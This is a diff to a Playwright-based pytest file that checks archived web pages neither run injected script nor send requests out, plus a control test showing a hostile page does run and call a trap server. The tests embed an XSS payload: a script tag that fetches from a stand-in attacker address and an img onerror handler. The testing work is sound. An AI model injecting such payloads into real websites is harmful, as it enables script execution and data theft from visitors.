@@ -2,10 +2,33 @@
 
 from __future__ import annotations
 
-import pytest
-from playwright.sync_api import BrowserContext
+from collections.abc import Iterator
 
+import pytest
+from playwright.sync_api import Browser, Page
+
+from tests.archive.web.hostile import hostile
 from tests.website import Trap
+
+
+class Watched:
+    """A page in a real browser, and what it asked for."""
+
+    def __init__(self, browser: Browser) -> None:
+        self.context = browser.new_context()
+        self.asked: list[str] = []
+        self.dialogs: list[str] = []
+        self.context.on("request", lambda request: self.asked.append(request.url))
+        self.page: Page = self.context.new_page()
+        self.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))
+
+
+@pytest.fixture(scope="module")
+def watched(browser: Browser) -> Iterator[Watched]:
+    opened = Watched(browser)
+    yield opened
+    opened.context.close()
+
 
 HOSTILE = 5  # the article, as tests/archive/web/conftest.py stores it
 CAPTURE = 5
@@ -39,22 +62,35 @@ CAPTURE = 5
     ],
     ids=lambda path: path.split("?")[0],
 )
-def test_nothing_runs_and_nothing_leaves(context: BrowserContext, base: str, evil: Trap, path: str) -> None:
+def test_nothing_runs_and_nothing_leaves(watched: Watched, base: str, evil: Trap, path: str) -> None:
     attack = (
         f"<script>document.title='ran';fetch('{evil.address}/s')</script>"
         "<img src=x onerror=\"document.title='ran'\">"
     )
-    asked: list[str] = []
-    context.on("request", lambda request: asked.append(request.url))
-    page = context.new_page()
-    dialogs: list[str] = []
-    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
+    page = watched.page
+    watched.asked.clear()
     page.goto(base + path.replace("{attack}", attack.replace("'", "%27").replace('"', "%22")))
-    page.wait_for_timeout(150)
+    page.wait_for_timeout(60)
     assert page.title() not in ("ran", "1")
-    assert [
-        frame.evaluate("document.scripts.length") for frame in page.frames if frame == page.main_frame
-    ] == [0]
-    assert dialogs == []
-    assert [url for url in asked if not url.startswith(base)] == []
+    assert page.evaluate("document.scripts.length") == 0
+    assert watched.dialogs == []
+    assert [url for url in watched.asked if not url.startswith(base)] == []
     assert not evil.knocked()
+
+
+def test_the_trap_would_tell(watched: Watched, evil: Trap) -> None:
+    """The hostile page, shown as it is, does run, and does call: so the tests above can fail."""
+    _, raw = hostile(evil.address)
+    page = raw.decode().replace('http-equiv="refresh"', "")
+    watched.page.goto("about:blank")  # the policy of the page before would hold
+    watched.page.set_content(page, wait_until="commit")
+    calls = 0
+    for _ in range(40):
+        # Whoever knocks is sent away, so that the browser goes on to the next.
+        calls += evil.knocked()
+        watched.page.wait_for_timeout(25)
+    assert watched.page.title() == "ran"
+    assert calls > 1
+    watched.page.goto("about:blank")
+    while evil.knocked():
+        pass
